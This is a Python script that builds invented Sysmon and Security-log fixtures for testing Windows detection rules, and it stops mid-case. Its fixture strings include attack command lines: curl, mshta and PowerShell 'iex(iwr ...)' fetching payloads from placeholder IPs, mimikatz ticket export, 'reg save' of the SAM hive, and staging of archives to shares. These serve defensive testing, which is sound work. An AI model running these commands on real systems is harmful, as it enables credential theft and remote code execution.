# Run from anywhere: python3 gen_fixtures.py (writes next to itself).
# Generates the cimtest fixtures (invented events) from the case table below.
import os, hashlib
OUT = os.path.dirname(os.path.abspath(__file__))
NS = "http://schemas.microsoft.com/win/2004/08/events/event"
rec = [41000]

def esc(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")

def hx(s, n):
    return hashlib.sha256(s.encode()).hexdigest().upper()[:n]

def guid(pid, host):
    return "{%s-%s-67AB-%04X-0000000032%s}" % (hx(host, 8), hx(host + "x", 4), pid, "00")

def nextrec():
    rec[0] += 7
    return rec[0]

def datas(pairs):
    return "".join("<Data Name='%s'>%s</Data>" % (k, esc(v)) for k, v in pairs)

def sysmon(eid, t, host, pairs, task=None, ver=5):
    return ("<Event xmlns='%s'><System><Provider Name='Microsoft-Windows-Sysmon' Guid='{5770385F-C22A-43E0-BF4C-06F5698FFBD9}'/>"
            "<EventID>%d</EventID><Version>%d</Version><Level>4</Level><Task>%d</Task><Opcode>0</Opcode><Keywords>0x8000000000000000</Keywords>"
            "<TimeCreated SystemTime='%sZ'/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='3128' ThreadID='4260'/>"
            "<Channel>Microsoft-Windows-Sysmon/Operational</Channel><Computer>%s</Computer><Security UserID='S-1-5-18'/></System>"
            "<EventData>%s</EventData></Event>") % (NS, eid, ver, task or eid, t, nextrec(), host, datas(pairs))

def s1(t, image, cmd, pid, ppid, pimage, pcmd, ofn="-", host="WS-FIN-014.corp.example", user="CORP\\alice.m",
       il="Medium", cwd="C:\\Users\\alice.m\\", pguid=None, guid_=None, desc="", hashes=None):
    g = guid_ or guid(pid, host)
    pg = pguid or guid(ppid, host)
    h = hashes or "SHA256=%s,IMPHASH=%s" % (hx(image, 64), hx(image + "i", 32))
    return sysmon(1, t + "0000", host, [
        ("RuleName", "-"), ("UtcTime", t.replace("T", " ")), ("ProcessGuid", g), ("ProcessId", str(pid)),
        ("Image", image), ("FileVersion", "10.0.19041.1 (WinBuild.160101.0800)"), ("Description", desc or "-"),
        ("Product", "-"), ("Company", "-"), ("OriginalFileName", ofn), ("CommandLine", cmd), ("CurrentDirectory", cwd),
        ("User", user), ("LogonGuid", "{%s-3B1A-67AB-2A63-150000000000}" % hx(user, 8)), ("LogonId", "0x15632A"),
        ("TerminalSessionId", "1"), ("IntegrityLevel", il), ("Hashes", h), ("ParentProcessGuid", pg),
        ("ParentProcessId", str(ppid)), ("ParentImage", pimage), ("ParentCommandLine", pcmd), ("ParentUser", user)])

def s11(t, image, pid, target, host="WS-FIN-014.corp.example", user="CORP\\alice.m"):
    return sysmon(11, t + "0000", host, [
        ("RuleName", "-"), ("UtcTime", t.replace("T", " ")), ("ProcessGuid", guid(pid, host)), ("ProcessId", str(pid)),
        ("Image", image), ("TargetFilename", target), ("CreationUtcTime", t.replace("T", " ")), ("User", user)], ver=2)

def s13(t, image, pid, target, details, host="WS-FIN-014.corp.example", user="CORP\\alice.m"):
    return sysmon(13, t + "0000", host, [
        ("RuleName", "-"), ("EventType", "SetValue"), ("UtcTime", t.replace("T", " ")), ("ProcessGuid", guid(pid, host)),
        ("ProcessId", str(pid)), ("Image", image), ("TargetObject", target), ("Details", details), ("User", user)], ver=2)

def s3(t, image, pid, dport, src_host, dst_ip="10.20.0.10", host="WS-FIN-014.corp.example", user="CORP\\alice.m"):
    return sysmon(3, t + "0000", host, [
        ("RuleName", "-"), ("UtcTime", t.replace("T", " ")), ("ProcessGuid", guid(pid, host)), ("ProcessId", str(pid)),
        ("Image", image), ("User", user), ("Protocol", "tcp"), ("Initiated", "true"), ("SourceIsIpv6", "false"),
        ("SourceIp", "10.20.4.31"), ("SourceHostname", src_host), ("SourcePort", "50412"), ("SourcePortName", "-"),
        ("DestinationIsIpv6", "false"), ("DestinationIp", dst_ip), ("DestinationHostname", "DC01.corp.example"),
        ("DestinationPort", str(dport)), ("DestinationPortName", "kerberos" if dport == 88 else "-")], ver=5)

def sec(t, newproc, cmd, pid, ppid, parent, host="SRV-APP-03.corp.example", subj="bob.k", target="-", label="S-1-16-8192"):
    pairs = [("SubjectUserSid", "S-1-5-21-3311720911-1893011245-2146521340-1117"), ("SubjectUserName", subj),
             ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x2C61F0"), ("NewProcessId", pid),
             ("NewProcessName", newproc), ("TokenElevationType", "%%1938"), ("ProcessId", ppid)]
    if cmd is not None:
        pairs.append(("CommandLine", cmd))
    pairs += [("TargetUserSid", "S-1-0-0"), ("TargetUserName", target), ("TargetDomainName", "-"),
              ("TargetLogonId", "0x0"), ("ParentProcessName", parent), ("MandatoryLabel", label)]
    return ("<Event xmlns='%s'><System><Provider Name='Microsoft-Windows-Security-Auditing' Guid='{54849625-5478-4994-A5BA-3E3B0328C30D}'/>"
            "<EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords>"
            "<TimeCreated SystemTime='%sZ'/><EventRecordID>%d</EventRecordID><Correlation/><Execution ProcessID='4' ThreadID='7412'/>"
            "<Channel>Security</Channel><Computer>%s</Computer><Security/></System><EventData>%s</EventData></Event>") % (
        NS, t + "0000", nextrec(), host, datas(pairs))

CMD = "C:\\Windows\\System32\\cmd.exe"
EXPL = "C:\\Windows\\explorer.exe"
PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
SVC = "C:\\Windows\\System32\\svchost.exe"

cases = {}
def case(det, name, *events):
    cases.setdefault(det, {})[name] = events

# 1 control_loading_from_world_writable_directory
d = "control_loading_from_world_writable_directory"
case(d, "sysmon1", s1("2025-02-11T09:14:27.318", "C:\\Windows\\System32\\control.exe",
     "\"C:\\Windows\\System32\\control.exe\" \"C:\\Users\\alice.m\\AppData\\Roaming\\Microsoft\\wincfg.cpl\"",
     7412, 5528, EXPL, "C:\\Windows\\Explorer.EXE", ofn="CONTROL.EXE"))
case(d, "sec4688", sec("2025-02-11T10:02:51.904", "C:\\Windows\\System32\\control.exe", "control.exe C:\\ProgramData\\svc\\panel.cpl",
     "0x1f3c", "0x9a8", CMD))
case(d, "negative", s1("2025-02-11T11:20:00.125", "C:\\Windows\\System32\\control.exe",
     "\"C:\\Windows\\System32\\control.exe\" C:\\Windows\\System32\\desk.cpl", 7420, 5528, EXPL, "C:\\Windows\\Explorer.EXE", ofn="CONTROL.EXE"),
     sec("2025-02-11T11:21:00.500", "C:\\Windows\\System32\\control.exe", "control.exe /name Microsoft.DevicesAndPrinters", "0x1f40", "0x9a8", EXPL))

# 2 windows_curl_download_to_suspicious_path
d = "windows_curl_download_to_suspicious_path"
case(d, "sysmon1", s1("2025-02-12T08:41:09.551", "C:\\Windows\\System32\\curl.exe",
     "curl.exe -s http://203.0.113.44/p.bin -o C:\\Users\\Public\\Libraries\\p.bin", 9120, 8844, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\" /c C:\\Users\\alice.m\\Downloads\\setup.bat", ofn="curl.exe"))
case(d, "sec4688", sec("2025-02-12T09:03:44.020", "C:\\Windows\\System32\\curl.exe",
     "\"C:\\Windows\\System32\\curl.exe\" --output C:\\ProgramData\\upd\\agent.dll https://198.51.100.20/agent.dll", "0x2a10", "0x1c4c", PS))
case(d, "negative", s1("2025-02-12T09:30:00.750", "C:\\Windows\\System32\\curl.exe",
     "curl.exe -O https://downloads.example.org/tools/report.zip", 9188, 8844, CMD, "cmd.exe", ofn="curl.exe",
     cwd="C:\\Users\\alice.m\\Downloads\\"))

# 3 7zip_commandline_to_smb_share_path
d = "7zip_commandline_to_smb_share_path"
case(d, "sysmon1", s1("2025-02-13T14:05:33.410", "C:\\Program Files\\7-Zip\\7z.exe",
     "\"C:\\Program Files\\7-Zip\\7z.exe\" a -pS3cr3t \\\\10.20.1.5\\C$\\Windows\\Temp\\out.7z C:\\Users\\alice.m\\Documents\\*",
     6604, 6212, CMD, "cmd.exe /c C:\\Users\\alice.m\\stage.bat", ofn="7z.exe"))
case(d, "sec4688", sec("2025-02-13T14:40:12.007", "C:\\Windows\\Temp\\7za.exe",
     "7za.exe a \\\\FS01\\Admin$\\temp\\d.7z C:\\Finance", "0x19e4", "0x1844", CMD))
case(d, "negative", s1("2025-02-13T15:00:00.300", "C:\\Program Files\\7-Zip\\7z.exe",
     "\"C:\\Program Files\\7-Zip\\7z.exe\" a C:\\Backup\\docs.7z C:\\Users\\alice.m\\Documents\\*", 6610, 6212, CMD, "cmd.exe", ofn="7z.exe"))

# 4 network_discovery_using_route_windows_app
d = "network_discovery_using_route_windows_app"
case(d, "sysmon1", s1("2025-02-14T07:55:02.125", "C:\\Windows\\System32\\ROUTE.EXE", "route print", 4432, 4400, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\"", ofn="route.exe"))
case(d, "sec4688", sec("2025-02-14T08:10:45.875", "C:\\Windows\\System32\\ROUTE.EXE", "route print -4", "0x1150", "0x1130", CMD))
case(d, "negative", s1("2025-02-14T08:30:00.000", "C:\\Windows\\System32\\NETSTAT.EXE", "netstat -r", 4490, 4400, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\"", ofn="netstat.exe"))

# 5 check_elevated_cmd_using_whoami
d = "check_elevated_cmd_using_whoami"
case(d, "sysmon1", s1("2025-02-15T10:11:12.500", CMD, "cmd.exe /c whoami /groups | find \"12288\"", 8016, 7720, PS,
     "powershell.exe -nop", ofn="Cmd.Exe"))
case(d, "sec4688", sec("2025-02-15T10:20:30.250", CMD, "cmd /c whoami /groups | find \"12288\"", "0x1f50", "0x1e28", PS))
case(d, "negative", s1("2025-02-15T10:40:00.000", "C:\\Windows\\System32\\whoami.exe", "whoami /groups", 8040, 7720, PS,
     "powershell.exe -nop", ofn="whoami.exe"))

# 6 anomalous_usage_of_7zip
d = "anomalous_usage_of_7zip"
case(d, "sysmon1", s1("2025-02-16T03:12:44.625", "C:\\Users\\Public\\7za.exe",
     "C:\\Users\\Public\\7za.exe a -tzip C:\\Users\\Public\\d.zip C:\\Users\\alice.m\\Documents", 5012, 4876,
     "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Users\\Public\\payload.dll,Start", ofn="7za.exe"))
case(d, "sec4688", sec("2025-02-16T03:30:00.375", "C:\\Program Files\\7-Zip\\7z.exe",
     "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\ProgramData\\a.7z -oC:\\ProgramData\\x", "0x13a4", "0x12f0", "C:\\Windows\\System32\\dllhost.exe"))
case(d, "negative", s1("2025-02-16T04:00:00.000", "C:\\Program Files\\7-Zip\\7z.exe",
     "\"C:\\Program Files\\7-Zip\\7z.exe\" x C:\\Users\\alice.m\\Downloads\\fonts.7z", 5040, 5528, EXPL, "C:\\Windows\\Explorer.EXE", ofn="7z.exe"))

# 7 mimikatz_passtheticket_commandline_parameters
d = "mimikatz_passtheticket_commandline_parameters"
case(d, "sysmon1", s1("2025-02-17T22:01:05.250", "C:\\Users\\alice.m\\AppData\\Local\\Temp\\mk.exe",
     "mk.exe \"privilege::debug\" \"sekurlsa::tickets /export\" exit", 3344, 3300, CMD, "cmd.exe", il="High"))
case(d, "sec4688", sec("2025-02-17T22:15:40.125", "C:\\ProgramData\\m64.exe",
     "m64.exe \"kerberos::ptt C:\\ProgramData\\t.kirbi\" exit", "0xd10", "0xcf0", CMD))
case(d, "negative", s1("2025-02-17T22:30:00.000", "C:\\Users\\alice.m\\AppData\\Local\\Temp\\mk.exe",
     "mk.exe \"privilege::debug\" \"sekurlsa::tickets\" exit", 3390, 3300, CMD, "cmd.exe", il="High"))

# 8 detect_html_help_using_infotech_storage_handlers
d = "detect_html_help_using_infotech_storage_handlers"
case(d, "sysmon1", s1("2025-02-18T12:00:01.750", "C:\\Windows\\hh.exe",
     "hh.exe its:C:\\Users\\alice.m\\Downloads\\guide.chm::/page.htm", 2210, 5528, EXPL, "C:\\Windows\\Explorer.EXE", ofn="HH.EXE"))
case(d, "sec4688", sec("2025-02-18T12:20:00.500", "C:\\Windows\\hh.exe",
     "\"C:\\Windows\\hh.exe\" mk:@MSITStore:\\\\198.51.100.7\\share\\help.chm::/index.html", "0x8a4", "0x7d0", EXPL))
case(d, "negative", s1("2025-02-18T12:40:00.000", "C:\\Windows\\hh.exe",
     "\"C:\\Windows\\hh.exe\" C:\\Program Files\\Vendor\\App\\help.chm", 2290, 5528, EXPL, "C:\\Windows\\Explorer.EXE", ofn="HH.EXE"))

# 9 windows_archive_collected_data_via_rar
d = "windows_archive_collected_data_via_rar"
case(d, "sysmon1", s1("2025-02-19T16:45:10.125", "C:\\Program Files\\WinRAR\\Rar.exe",
     "\"C:\\Program Files\\WinRAR\\Rar.exe\" a -ep1 -r -y -v5m -m1 C:\\Users\\Public\\out.rar C:\\Users\\alice.m\\Documents\\",
     7788, 7700, CMD, "cmd.exe /c C:\\Users\\Public\\c.bat", ofn="Rar.exe"))
case(d, "sec4688", sec("2025-02-19T17:02:33.625", "C:\\Program Files\\WinRAR\\Rar.exe",
     "rar.exe a -ep1 -r -y -v5m -m1 C:\\Windows\\Temp\\d.rar D:\\Shares\\HR", "0x1e6c", "0x1e14", CMD))
case(d, "negative", s1("2025-02-19T17:30:00.000", "C:\\Program Files\\WinRAR\\Rar.exe",
     "\"C:\\Program Files\\WinRAR\\Rar.exe\" a -r C:\\Backup\\docs.rar C:\\Docs", 7790, 7700, CMD, "cmd.exe", ofn="Rar.exe"))

# 10 windows_password_managers_discovery
d = "windows_password_managers_discovery"
case(d, "sysmon1", s1("2025-02-20T09:09:09.125", CMD, "cmd.exe /c dir /s /b C:\\Users\\*.kdbx", 6120, 6100, PS,
     "powershell.exe", ofn="Cmd.Exe"))
case(d, "sec4688", sec("2025-02-20T09:30:15.250", "C:\\Windows\\System32\\findstr.exe",
     "findstr /si password *.xml *.ini *.config", "0x17f8", "0x17d4", CMD))
case(d, "negative", s1("2025-02-20T09:45:00.000", CMD, "cmd.exe /c dir C:\\Users\\alice.m\\Documents", 6190, 6100, PS,
     "powershell.exe", ofn="Cmd.Exe"))

# 11 excel_spawning_windows_script_host
d = "excel_spawning_windows_script_host"
XL = "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"
XLC = "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\EXCEL.EXE\" \"C:\\Users\\alice.m\\Downloads\\Invoice_0211.xlsm\""
case(d, "sysmon1",
     s1("2025-02-21T11:00:05.125", "C:\\Windows\\System32\\wscript.exe",
        "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\alice.m\\AppData\\Local\\Temp\\a1.js\"", 4100, 3980, XL, XLC, ofn="wscript.exe"),
     s1("2025-02-21T11:00:09.875", "C:\\Windows\\System32\\wscript.exe",
        "\"C:\\Windows\\System32\\WScript.exe\" \"C:\\Users\\alice.m\\AppData\\Local\\Temp\\a2.js\"", 4104, 3980, XL, XLC, ofn="wscript.exe"))
case(d, "sec4688", sec("2025-02-21T11:30:00.625", "C:\\Windows\\System32\\cscript.exe",
     "cscript.exe //nologo C:\\Users\\bob.k\\AppData\\Local\\Temp\\inv.vbs", "0x1b5c", "0x1a20", XL))
case(d, "negative", s1("2025-02-21T11:45:00.000", "C:\\Windows\\System32\\wscript.exe",
     "\"C:\\Windows\\System32\\WScript.exe\" C:\\Users\\alice.m\\Downloads\\doc.js", 4180, 4160,
     "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", "\"C:\\Program Files\\Microsoft Office\\Root\\Office16\\WINWORD.EXE\" /n", ofn="wscript.exe"))

# 12 suspicious_msbuild_path
d = "suspicious_msbuild_path"
case(d, "sysmon1", s1("2025-02-22T13:13:13.125", "C:\\Users\\Public\\MSBuild.exe",
     "C:\\Users\\Public\\MSBuild.exe C:\\Users\\Public\\build.xml", 2840, 2800, CMD, "cmd.exe /c C:\\Users\\Public\\b.cmd", ofn="MSBuild.exe"))
case(d, "sec4688", sec("2025-02-22T13:30:00.250", "C:\\ProgramData\\msbuild.exe",
     "msbuild.exe C:\\ProgramData\\p.csproj", "0xb38", "0xaf0", CMD))
case(d, "negative", s1("2025-02-22T14:00:00.000", "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
     "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\src\\app\\app.sln /p:Configuration=Release", 2890, 2800, CMD, "cmd.exe", ofn="MSBuild.exe"))

# 13 windows_bypass_uac_via_pkgmgr_tool
d = "windows_bypass_uac_via_pkgmgr_tool"
case(d, "sysmon1", s1("2025-02-23T19:20:21.375", "C:\\Windows\\System32\\pkgmgr.exe",
     "pkgmgr.exe /n:C:\\Users\\alice.m\\AppData\\Local\\Temp\\dism.xml", 3012, 2996,
     "C:\\Users\\alice.m\\AppData\\Local\\Temp\\loader.exe", "C:\\Users\\alice.m\\AppData\\Local\\Temp\\loader.exe", ofn="PkgMgr.exe"))
case(d, "sec4688", sec("2025-02-23T19:40:00.125", "C:\\Windows\\System32\\pkgmgr.exe",
     "pkgmgr /n:C:\\ProgramData\\svc\\u.xml", "0xbd0", "0xbb4", "C:\\ProgramData\\svc\\stage.exe"))
case(d, "negative", s1("2025-02-23T20:00:00.000", "C:\\Windows\\System32\\pkgmgr.exe",
     "pkgmgr.exe /n:C:\\Windows\\Temp\\features.xml", 3090, 2996, CMD, "cmd.exe", ofn="PkgMgr.exe"))

# 14 windows_uac_bypass_suspicious_child_process
d = "windows_uac_bypass_suspicious_child_process"
case(d, "sysmon1", s1("2025-02-24T06:06:06.250", CMD,
     "\"C:\\Windows\\system32\\cmd.exe\" /c start C:\\Users\\alice.m\\AppData\\Local\\Temp\\x.exe", 5500, 5480,
     "C:\\Windows\\System32\\fodhelper.exe", "\"C:\\Windows\\system32\\fodhelper.exe\"", ofn="Cmd.Exe", il="High",
     cwd="C:\\Windows\\system32\\"))
case(d, "sec4688", sec("2025-02-24T06:20:00.125", CMD, "cmd.exe /c C:\\Users\\bob.k\\AppData\\Local\\Temp\\x.exe",
     "0x1590", "0x1578", "C:\\Windows\\System32\\fodhelper.exe", label="S-1-16-12288"))
case(d, "negative", s1("2025-02-24T06:40:00.000", CMD,
     "\"C:\\Windows\\system32\\cmd.exe\" /c start C:\\Users\\alice.m\\AppData\\Local\\Temp\\x.exe", 5590, 5480,
     "C:\\Windows\\System32\\fodhelper.exe", "\"C:\\Windows\\system32\\fodhelper.exe\"", ofn="Cmd.Exe", il="Medium"))

# 15 windows_alternate_datastream___process_execution
d = "windows_alternate_datastream___process_execution"
case(d, "sysmon1", s1("2025-02-25T15:15:15.125", "C:\\Windows\\System32\\rundll32.exe",
     "rundll32.exe C:\\ProgramData\\doc.txt:payload.dll,Start", 6400, 6380, CMD, "cmd.exe", ofn="RUNDLL32.EXE",
     cwd="C:\\ProgramData\\"))
case(d, "sec4688", sec("2025-02-25T15:30:00.375", "C:\\Windows\\System32\\wscript.exe",
     "wscript.exe C:\\Users\\bob.k\\AppData\\Roaming\\readme.txt:run.vbs", "0x1a2c", "0x19f0", CMD))
case(d, "negative", s1("2025-02-25T15:45:00.000", PS,
     "powershell.exe -File C:\\Scripts\\inventory.ps1", 6480, 6380, CMD, "cmd.exe", ofn="PowerShell.EXE"))

# 16 system_processes_run_from_unexpected_locations
d = "system_processes_run_from_unexpected_locations"
case(d, "sysmon1", s1("2025-02-26T02:02:02.500", "C:\\Users\\Public\\svchost.exe", "C:\\Users\\Public\\svchost.exe -k netsvcs",
     1888, 5528, EXPL, "C:\\Windows\\Explorer.EXE", ofn="svchost.exe",
     hashes="MD5=0C2F6B9E1A5D4C3B2A19087F6E5D4C3B,SHA256=9F8E7D6C5B4A39281706F5E4D3C2B1A09F8E7D6C5B4A39281706F5E4D3C2B1A0,IMPHASH=1A2B3C4D5E6F708192A3B4C5D6E7F809"))
case(d, "sec4688", sec("2025-02-26T02:20:00.250", "C:\\ProgramData\\Intel\\lsass.exe",
     "\"C:\\ProgramData\\Intel\\lsass.exe\" -service", "0x7a0", "0x2a8", "C:\\Windows\\System32\\services.exe"))
case(d, "negative",
     s1("2025-02-26T02:40:00.000", SVC, "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", 1900, 720,
        "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe", ofn="svchost.exe", user="NT AUTHORITY\\SYSTEM", il="System"),
     s1("2025-02-26T02:41:00.000", "C:\\Users\\Public\\updater.exe", "C:\\Users\\Public\\updater.exe /silent", 1950, 5528, EXPL,
        "C:\\Windows\\Explorer.EXE", ofn="updater.exe"))

# 17 notepad_with_no_command_line_arguments
d = "notepad_with_no_command_line_arguments"
case(d, "sysmon1", s1("2025-02-27T21:47:30.250", "C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\notepad.exe\"",
     7004, 6990, "C:\\Windows\\System32\\rundll32.exe", "rundll32.exe C:\\Users\\Public\\x.dll,Run", ofn="NOTEPAD.EXE"))
case(d, "sec4688", sec("2025-02-27T22:05:10.500", "C:\\Windows\\System32\\notepad.exe", "\"C:\\Windows\\system32\\NOTEPAD.EXE\"",
     "0x1b80", "0x1b58", "C:\\Windows\\System32\\rundll32.exe"))
case(d, "negative", s1("2025-02-27T22:30:00.000", "C:\\Windows\\System32\\notepad.exe",
     "\"C:\\Windows\\system32\\notepad.exe\" C:\\Users\\alice.m\\Desktop\\todo.txt", 7090, 5528, EXPL, "C:\\Windows\\Explorer.EXE", ofn="NOTEPAD.EXE"))

# 18 windows_query_registry_reg_save
d = "windows_query_registry_reg_save"
REG = "C:\\Windows\\System32\\reg.exe"
case(d, "sysmon1", s1("2025-02-28T01:23:45.125", REG, "reg.exe save HKLM\\SAM C:\\Windows\\Temp\\sam.save /y", 2468, 2440, CMD,
     "cmd.exe", ofn="reg.exe", il="High"))
case(d, "sec4688", sec("2025-02-28T01:40:00.750", REG, "reg save hklm\\system C:\\ProgramData\\sys.hiv", "0x9a4", "0x988", CMD))
case(d, "negative", s1("2025-02-28T02:00:00.000", REG, "reg.exe query HKLM\\SAM\\SAM\\Domains", 2490, 2440, CMD, "cmd.exe", ofn="reg.exe", il="High"))

# 19 suspicious_writes_to_windows_recycle_bin
d = "suspicious_writes_to_windows_recycle_bin"
DROP = "C:\\Users\\Public\\dropper.exe"
case(d, "sysmon1",
     s1("2025-03-01T10:00:00.250", DROP, "C:\\Users\\Public\\dropper.exe", 5120, 5528, EXPL, "C:\\Windows\\Explorer.EXE"),
     s11("2025-03-01T10:00:03.500", DROP, 5120, "C:\\$Recycle.Bin\\S-1-5-21-3311720911-1893011245-2146521340-1104\\$RK4M2Q1.exe"))
case(d, "negative",
     s1("2025-03-01T10:30:00.000", EXPL, "C:\\Windows\\Explorer.EXE", 5528, 5490, "C:\\Windows\\System32\\userinit.exe", "C:\\Windows\\system32\\userinit.exe"),
     s11("2025-03-01T10:30:04.000", EXPL, 5528, "C:\\$Recycle.Bin\\S-1-5-21-3311720911-1893011245-2146521340-1104\\$IAB12CD.docx"))

# 20 windows_ad_dsrm_account_changes
d = "windows_ad_dsrm_account_changes"
DC = "DC01.corp.example"
case(d, "sysmon1",
     s1("2025-03-02T04:00:00.250", REG,
        "reg add HKLM\\System\\CurrentControlSet\\Control\\Lsa /v DSRMAdminLogonBehavior /t REG_DWORD /d 2 /f", 3100, 3080, CMD, "cmd.exe",
        ofn="reg.exe", host=DC, user="CORP\\da.admin", il="High"),
     s13("2025-03-02T04:00:00.500", REG, 3100, "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\DSRMAdminLogonBehavior",
         "DWORD (0x00000002)", host=DC, user="CORP\\da.admin"))
case(d, "negative",
     s13("2025-03-02T05:00:00.500", REG, 3150, "HKLM\\System\\CurrentControlSet\\Control\\Lsa\\DSRMAdminLogonBehavior",
         "DWORD (0x00000000)", host=DC, user="CORP\\da.admin"))

# 21 unknown_process_using_the_kerberos_protocol
d = "unknown_process_using_the_kerberos_protocol"
RUB = "C:\\Users\\alice.m\\AppData\\Local\\Temp\\rb.exe"
case(d, "sysmon1",
     s1("2025-03-03T08:00:00.250", RUB, "rb.exe asktgt /user:svc_sql /rc4:0123456789abcdef0123456789abcdef /ptt", 4800, 4780, CMD, "cmd.exe"),
     s3("2025-03-03T08:00:01.000", RUB, 4800, 88, "WS-FIN-014.corp.example"))
case(d, "negative",
     s1("2025-03-03T08:30:00.250", "C:\\Windows\\System32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", 712, 600,
        "C:\\Windows\\System32\\wininit.exe", "wininit.exe", user="NT AUTHORITY\\SYSTEM", il="System"),
     s3("2025-03-03T08:30:01.000", "C:\\Windows\\System32\\lsass.exe", 712, 88, "WS-FIN-014.corp.example", user="NT AUTHORITY\\SYSTEM"),
     s1("2025-03-03T08:31:00.250", "C:\\Program Files\\Mozilla Firefox\\firefox.exe", "\"C:\\Program Files\\Mozilla Firefox\\firefox.exe\"",
        4900, 5528, EXPL, "C:\\Windows\\Explorer.EXE"),
     s3("2025-03-03T08:31:01.000", "C:\\Program Files\\Mozilla Firefox\\firefox.exe", 4900, 443, "WS-FIN-014.corp.example"))

# 22 detect_rare_executables
d = "detect_rare_executables"
case(d, "sysmon1",
     s1("2025-03-04T12:00:00.250", "C:\\Users\\alice.m\\Downloads\\tool.exe", "tool.exe", 4000, 5528, EXPL, "C:\\Windows\\Explorer.EXE"),
     s1("2025-03-04T12:05:00.750", "C:\\Users\\carol.t\\Downloads\\tool.exe", "tool.exe -q", 4010, 5600, EXPL, "C:\\Windows\\Explorer.EXE",
        host="WS-HR-002.corp.example", user="CORP\\carol.t"))
case(d, "sec4688", sec("2025-03-04T12:30:00.125", "C:\\ProgramData\\rare\\agentx.exe", "agentx.exe --once", "0x1004", "0x2a8",
     "C:\\Windows\\System32\\services.exe", subj="SRV-APP-03$"))
case(d, "negative", *[
     s1("2025-03-04T13:%02d:00.000" % i, "C:\\Program Files\\Contoso\\inventory.exe", "\"C:\\Program Files\\Contoso\\inventory.exe\" /scan",
        4100 + i, 720, "C:\\Windows\\System32\\services.exe", "C:\\Windows\\system32\\services.exe",
        host="WS-%03d.corp.example" % (i + 1), user="NT AUTHORITY\\SYSTEM", il="System") for i in range(10)])

# 23 windows_network_share_interaction_with_net
d = "windows_network_share_interaction_with_net"
NET = "C:\\Windows\\System32\\net.exe"
case(d, "sysmon1", s1("2025-03-05T09:00:00.250", NET, "net view \\\\FS01 /all", 3500, 3480, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\"", ofn="net.exe"))
case(d, "sec4688", sec("2025-03-05T09:20:00.500", NET, "net use \\\\10.20.1.5\\C$ /user:CORP\\svc_backup Winter2025!", "0xdb0", "0xd98", CMD))
case(d, "negative", s1("2025-03-05T09:40:00.000", NET, "net user alice.m /domain", 3590, 3480, CMD,
     "\"C:\\Windows\\system32\\cmd.exe\"", ofn="net.exe"))

# 24 windows_privilege_escalation_suspicious_process_elevation
d = "windows_privilege_escalation_suspicious_process_elevation"
PAR = "C:\\Users\\alice.m\\AppData\\Local\\Temp\\setup_helper.exe"
CHILD = "C:\\Users\\alice.m\\AppData\\Local\\Temp\\elev.exe"
case(d, "sysmon1",
     s1("2025-03-06T14:00:00.250", PAR, "\"C:\\Users\\alice.m\\AppData\\Local\\Temp\\setup_helper.exe\" /install", 6000, 5528, EXPL,
        "C:\\Windows\\Explorer.EXE", il="Medium", cwd="C:\\Users\\alice.m\\AppData\\Local\\Temp\\"),
     s1("2025-03-06T14:00:02.750", CHILD, "C:\\Users\\alice.m\\AppData\\Local\\Temp\\elev.exe -svc", 6020, 6000, PAR,
        "\"C:\\Users\\alice.m\\AppData\\Local\\Temp\\setup_helper.exe\" /install", il="High", cwd="C:\\Users\\alice.m\\AppData\\Local\\Temp\\"))
case(d, "negative",
     s1("2025-03-06T15:00:00.250", PAR, "\"C:\\Users\\alice.m\\AppData\\Local\\Temp\\setup_helper.exe\" /install", 6100, 5528, EXPL,
        "C:\\Windows\\Explorer.EXE", il="Medium", cwd="C:\\Users\\alice.m\\AppData\\Local\\Temp\\"),
     s1("2025-03-06T15:00:02.750", CHILD, "C:\\Users\\alice.m\\AppData\\Local\\Temp\\elev.exe -svc", 6120, 6100, PAR,
        "\"C:\\Users\\alice.m\\AppData\\Local\\Temp\\setup_helper.exe\" /install", il="Medium", cwd="C:\\Users\\alice.m\\AppData\\Local\\Temp\\"))

# 25 svchost_lolbas_execution_process_spawn
d = "svchost_lolbas_execution_process_spawn"
case(d, "sysmon1", s1("2025-03-07T03:03:03.125", "C:\\Windows\\System32\\mshta.exe", "mshta.exe http://203.0.113.9/a.hta", 2600, 1180, SVC,
     "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule", ofn="MSHTA.EXE"))
case(d, "sec4688", sec("2025-03-07T03:20:00.375", "C:\\Windows\\System32\\schtasks.exe",
     "schtasks.exe /run /tn \\Microsoft\\Windows\\Updater", "0xa48", "0x49c", SVC, subj="SRV-APP-03$"))
case(d, "negative", s1("2025-03-07T03:40:00.000", "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
     "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", 2700, 1180, SVC, "C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p",
     ofn="Wmiprvse.exe", user="NT AUTHORITY\\NETWORK SERVICE", il="System"))

# 26 windows_conhost_with_headless_argument
d = "windows_conhost_with_headless_argument"
CON = "C:\\Windows\\System32\\conhost.exe"
case(d, "sysmon1", s1("2025-03-08T18:18:18.500", CON,
     "conhost.exe --headless powershell.exe -nop -w hidden -c \"iex(iwr http://198.51.100.3/s)\"", 5800, 5780, "C:\\Windows\\System32\\wscript.exe",
